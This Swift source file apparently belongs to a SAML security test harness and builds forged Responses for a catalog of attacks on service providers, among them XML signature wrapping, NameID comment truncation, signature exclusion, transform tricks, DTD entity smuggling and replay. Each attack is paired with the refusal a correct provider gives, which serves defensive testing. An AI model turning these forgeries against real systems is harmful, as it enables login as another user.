import Foundation

/// The attacks `samlharness attack-sp` delivers to an SP, and the mock SP must refuse (tests).
/// Each starts from a Response the IdP genuinely signs (``AttackMaterial``) and changes one
/// thing; its ``AttackExpectation`` says what a correct SP does, with the reason code SAMLCore's
/// ``SPValidator`` gives.
public enum AttackCatalog {
    static let breakingSAML = "Somorovsky et al., \"On Breaking SAML: Be Whoever You Want to Be\", USENIX Security 2012"

    /// Every attack, in the order reports list them.
    public static let all: [SAMLAttack] = wrapping + [
        nameIDComment, signatureExclusion, keyInfoConfusion, referenceToOtherID, duplicateIDs,
        xsltTransform, xpathTransform, sha1Downgrade, replay, wrongAudience, wrongRecipient,
        wrongDestination, expired, forgedInResponseTo, doctypeSmuggled, assertionInExtensions,
        secondAssertion,
    ]

    /// The ids, in order.
    public static var ids: [String] { all.map(\.id) }

    /// The attack with this id.
    public static func attack(_ id: String) -> SAMLAttack? { all.first { $0.id == id } }

    // MARK: Signature wrapping

    static let wrapping: [SAMLAttack] = SignatureWrapping.allCases.map { shape in
        SAMLAttack(id: shape.rawValue, summary: Self.wrappingSummary[shape]!,
                   reference: "\(breakingSAML); SAML Raider's \(shape.rawValue.uppercased())") { m in
            let wrapped = try shape.apply(to: try m.response(.both), evilNameID: m.victimNameID)
            return AttackPayload(wrapped, refusedWith: "signature.wrapping")
        }
    }

    static let wrappingSummary: [SignatureWrapping: String] = [
        .xsw1: "evil Response as root; the signed original Response moved into the Signature's ds:Object",
        .xsw2: "evil Response as root; the signed original Response a sibling before the Signature",
        .xsw3: "unsigned evil Assertion inserted before the signed one",
        .xsw4: "signed Assertion nested inside the unsigned evil Assertion",
        .xsw5: "evil Assertion carries the copied Signature; the original Assertion, unsigned, after it",
        .xsw6: "evil Assertion carries the copied Signature, which holds the original Assertion",
        .xsw7: "signed Assertion hidden in an Extensions element of the evil Assertion",
        .xsw8: "evil Assertion's copied Signature holds a ds:Object with the original Assertion",
    ]

    // MARK: Signature handling

    static let nameIDComment = SAMLAttack(
        id: "nameid-comment",
        summary: "an XML comment splits the signed NameID admin@example.org<!---->.attacker.example; vulnerable SPs read only the text before it",
        reference: "CVE-2017-11427 (python-saml), CVE-2017-11428 (ruby-saml), CVE-2017-11429/11430 (Duo advisory, 2018)"
    ) { m in
        // The attacker registers an account whose name extends the victim's; the comment, which
        // exclusive c14n leaves out, keeps the IdP's signature valid.
        let whole = m.victimNameID + ".attacker.example"
        let signed = try m.response(.both, nameID: whole)
        let forged = signed.replacingOccurrences(
            of: ">\(XMLWriter.escapeText(whole))</",
            with: ">\(XMLWriter.escapeText(m.victimNameID))<!---->.attacker.example</")
        return AttackPayload(responses: [forged], expectation: .readWhole(nameID: whole, truncated: m.victimNameID))
    }

    static let signatureExclusion = SAMLAttack(
        id: "signature-exclusion",
        summary: "every Signature removed and the NameID changed; SPs that verify only signatures present accept it",
        reference: "\(breakingSAML) (signature exclusion); saml-profiles-2.0-os §4.1.3.5 (assertions delivered by HTTP-POST must be signed)"
    ) { m in
        let unsigned = try SignatureTampering.removingSignatures(try m.response(.both, nameID: m.victimNameID))
        return AttackPayload(unsigned, refusedWith: "signature.missing")
    }

    static let keyInfoConfusion = SAMLAttack(
        id: "keyinfo-cert-confusion",
        summary: "signed with the attacker's key, the attacker's certificate in KeyInfo; SPs that trust KeyInfo accept it",
        reference: "saml-core-2.0-os §5.4.5 (KeyInfo); W3C XML Signature Best Practices (2013): establish trust in the key, not in KeyInfo; SAML Raider certificate cloning"
    ) { m in
        let forged = try m.response(.both, nameID: m.victimNameID, signer: m.attackerSigner)
        return AttackPayload(forged, refusedWith: "signature.untrusted-key")
    }

    static let referenceToOtherID = SAMLAttack(
        id: "reference-other-id",
        summary: "the unsigned evil Assertion carries a valid IdP Signature whose Reference points at another element (a signed LogoutResponse in Extensions)",
        reference: "saml-core-2.0-os §5.4.2 (the Reference must point at the element carrying the Signature); \(breakingSAML)"
    ) { m in
        let parts = try ResponseParts(try m.response(.assertion))
        // Any message the IdP signs will do: here a LogoutResponse.
        let logout = LogoutResponse.make(issuer: m.idpEntityID, destination: m.acsURL, inResponseTo: nil,
                                         clock: m.clock, ids: m.ids)
        let signedLogout = try ResponseParts.root(of: try m.signer.sign(xml: logout.xml(), elementIDs: [logout.id]))
        let evil = ResponseParts.insertAfterIssuer(
            parts.evilAssertion(nameID: m.nameID, as: m.victimNameID), signedLogout.signature)
        let extensions = "<samlp:Extensions xmlns:samlp=\"\(SAMLNamespace.protocol_)\">\(signedLogout.unsigned)</samlp:Extensions>"
        return AttackPayload(parts.start + parts.issuer + extensions + parts.status + evil + parts.end,
                             refusedWith: "signature.wrong-reference")
    }

    static let duplicateIDs = SAMLAttack(
        id: "duplicate-ids",
        summary: "an unsigned evil Assertion with the same ID as the signed one, placed first; ID lookup and consumption disagree",
        reference: "\(breakingSAML) (ID-based referencing); xmldsig-core same-document references"
    ) { m in
        let parts = try ResponseParts(try m.response(.assertion))
        let evil = parts.evilAssertion(nameID: m.nameID, as: m.victimNameID, id: parts.assertionID)
        return AttackPayload(parts.start + parts.issuer + parts.status + evil + parts.assertion + parts.end,
                             refusedWith: "signature.duplicate-id")
    }

    static let xsltTransform = SAMLAttack(
        id: "transform-xslt",
        summary: "the Reference runs an XSLT transform that prints a constant, so the digest no longer covers the (evil) Assertion",
        reference: "saml-core-2.0-os §5.4.4 (only enveloped-signature and c14n); W3C XML Signature Best Practices (2013), XSLT transforms"
    ) { m in
        let stylesheet = "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:output method=\"text\"/><xsl:template match=\"/\">samlharness</xsl:template></xsl:stylesheet>"
        let transforms = "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/><ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">\(stylesheet)</ds:Transform></ds:Transforms>"
        return AttackPayload(try contentFreeSignature(m, transforms: transforms, digested: "samlharness"),
                             refusedWith: "signature.forbidden-transform")
    }

    static let xpathTransform = SAMLAttack(
        id: "transform-xpath",
        summary: "the Reference runs an XPath filter selecting nothing, so the digest no longer covers the (evil) Assertion",
        reference: "saml-core-2.0-os §5.4.4 (only enveloped-signature and c14n); W3C XML Signature Best Practices (2013), XPath transforms"
    ) { m in
        let transforms = "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/><ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>false()</ds:XPath></ds:Transform><ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/></ds:Transforms>"
        return AttackPayload(try contentFreeSignature(m, transforms: transforms, digested: ""),
                             refusedWith: "signature.forbidden-transform")
    }

    /// An Assertion for the victim under the IdP's genuine signature whose transforms make the
    /// digest the hash of `digested`, whatever the Assertion says.
    static func contentFreeSignature(_ m: AttackMaterial, transforms: String, digested: String) throws -> String {
        var signer = m.signer
        signer.algorithm = .rsaSha256
        signer.digest = .sha256
        let signed = try m.response(.assertion, nameID: m.victimNameID, signer: signer)
        let digest = Data(MessageDigest.sha256.hash(Array(digested.utf8))).base64EncodedString()
        return try SignatureTampering.rewritingReference(signed, transforms: transforms, digestValue: digest, signer: signer)
    }

    static let sha1Downgrade = SAMLAttack(
        id: "sha1-downgrade",
        summary: "signed with rsa-sha1 and a sha1 digest (collision-prone) instead of rsa-sha256",
        reference: "RFC 6931 (SHA-1 deprecated for signatures); NIST SP 800-131A; SHAttered (Stevens et al., CRYPTO 2017)"
    ) { m in
        var signer = m.signer
        signer.algorithm = .rsaSha1
        signer.digest = .sha1
        return AttackPayload(try m.response(.both, signer: signer), refusedWith: "signature.forbidden-algorithm")
    }

    // MARK: Protocol rules

    static let replay = SAMLAttack(
        id: "replay",
        summary: "a valid Response posted twice: the second post replays an assertion already consumed",
        reference: "saml-profiles-2.0-os §4.1.4.5 (bearer assertions must not be replayed)"
    ) { m in
        let valid = try m.response(.both)
        return AttackPayload(responses: [valid, valid], expectation: .refused(reason: "assertion.replayed"))
    }

    static let wrongAudience = SAMLAttack(
        id: "wrong-audience",
        summary: "the AudienceRestriction names another SP (an assertion issued to it, forwarded here)",
        reference: "saml-core-2.0-os §2.5.1.4; saml-profiles-2.0-os §4.1.4.2"
    ) { m in
        AttackPayload(try m.response(.both, audience: "https://other-sp.example.org/shibboleth"), refusedWith: "audience.mismatch")
    }

    static let wrongRecipient = SAMLAttack(
        id: "wrong-recipient",
        summary: "SubjectConfirmationData Recipient is another SP's ACS",
        reference: "saml-profiles-2.0-os §4.1.4.2 (Recipient must be the ACS the assertion arrived at)"
    ) { m in
        let forged = try m.response(.both) { xml in
            xml.replacingOccurrences(of: "Recipient=\"\(XMLWriter.escapeAttribute(m.acsURL))\"", with: "Recipient=\"\(otherACS)\"")
        }
        return AttackPayload(forged, refusedWith: "recipient.mismatch")
    }

    static let wrongDestination = SAMLAttack(
        id: "wrong-destination",
        summary: "the signed Response's Destination is another SP's ACS",
        reference: "saml-bindings-2.0-os §3.5.5.2 (Destination must be the URL the message arrived at)"
    ) { m in
        let forged = try m.response(.both) { xml in
            xml.replacingOccurrences(of: "Destination=\"\(XMLWriter.escapeAttribute(m.acsURL))\"", with: "Destination=\"\(otherACS)\"")
        }
        return AttackPayload(forged, refusedWith: "destination.mismatch")
    }

    static let otherACS = "https://other-sp.example.org/Shibboleth.sso/SAML2/POST"

    static let expired = SAMLAttack(
        id: "expired",
        summary: "a genuine Response issued an hour ago: NotOnOrAfter (Conditions, SubjectConfirmationData) long past",
        reference: "saml-core-2.0-os §2.5.1.2; saml-profiles-2.0-os §4.1.4.2"
    ) { m in
        let then = FixedClock(SAMLDateTime.truncated(m.clock.now()).addingTimeInterval(-3600))
        return AttackPayload(try m.response(.both, clock: then), refusedWith: "subject-confirmation.expired")
    }

    static let forgedInResponseTo = SAMLAttack(
        id: "forged-in-response-to",
        summary: "InResponseTo names a request the SP never sent (unsolicited Response dressed as solicited)",
        reference: "saml-profiles-2.0-os §4.1.4.2–4.1.4.3; saml-core-2.0-os §3.2.2"
    ) { m in
        let forgedID = "_forged" + m.ids.next().drop { $0 == "_" }
        let forged = try m.response(.both, inResponseTo: .some(forgedID))
        return AttackPayload(forged, refusedWith: m.requestID == nil ? "in-response-to.unexpected" : "in-response-to.mismatch")
    }

    // MARK: Parser and structure

    static let doctypeSmuggled = SAMLAttack(
        id: "doctype-smuggled-assertion",
        summary: "an evil Assertion hidden in an internal DTD entity, expanded before the signed one by parsers that substitute entities",
        reference: "OWASP XML External Entity Prevention and SAML Security Cheat Sheets (refuse DTDs in SAML messages)"
    ) { m in
        let parts = try ResponseParts(try m.response(.assertion))
        let evil = parts.evilAssertion(nameID: m.nameID, as: m.victimNameID)
        let name = parts.end.dropFirst(2).dropLast()
        let doctype = "<!DOCTYPE \(name) [\n<!ENTITY smuggled '\(evil.replacingOccurrences(of: "'", with: "&#39;"))'>\n]>\n"
        return AttackPayload(doctype + parts.start + parts.issuer + parts.status + "&smuggled;" + parts.assertion + parts.end,
                             refusedWith: "xml.refused")
    }

    static let assertionInExtensions = SAMLAttack(
        id: "assertion-in-extensions",
        summary: "the signed Assertion moved into the Response's Extensions; an unsigned evil Assertion where the SP reads",
        reference: "\(breakingSAML) (wrapping in extension points)"
    ) { m in
        let parts = try ResponseParts(try m.response(.assertion))
        let evil = parts.evilAssertion(nameID: m.nameID, as: m.victimNameID)
        let extensions = "<samlp:Extensions xmlns:samlp=\"\(SAMLNamespace.protocol_)\">\(parts.assertion)</samlp:Extensions>"
        return AttackPayload(parts.start + parts.issuer + extensions + parts.status + evil + parts.end,
                             refusedWith: "signature.wrapping")
    }

    static let secondAssertion = SAMLAttack(
        id: "second-assertion",
        summary: "the signed Assertion followed by an unsigned evil one; SPs that verify one and read another accept it",
        reference: "CVE-2022-41912 (crewjam/saml); saml-profiles-2.0-os §4.1.4.2"
    ) { m in
        let parts = try ResponseParts(try m.response(.assertion))
        let evil = parts.evilAssertion(nameID: m.nameID, as: m.victimNameID)
        return AttackPayload(parts.start + parts.issuer + parts.status + parts.assertion + evil + parts.end,
                             refusedWith: "assertion.multiple")
    }
}

extension ResponseParts {
    /// A signed root element split into its Signature and the rest.
    struct SignedRoot {
        let signature: String
        let unsigned: String
    }

    static func root(of xml: String) throws -> SignedRoot {
        let root = try XMLDocument(parsing: xml).root
        guard let signature = XMLSignatureVerifier.signatureElement(of: root) else {
            throw SAMLError(.missingElement, "\(root.localName) is not signed")
        }
        let signatureXML = text(signature)
        return SignedRoot(signature: signatureXML, unsigned: text(root).replacingOccurrences(of: signatureXML, with: ""))
    }
}
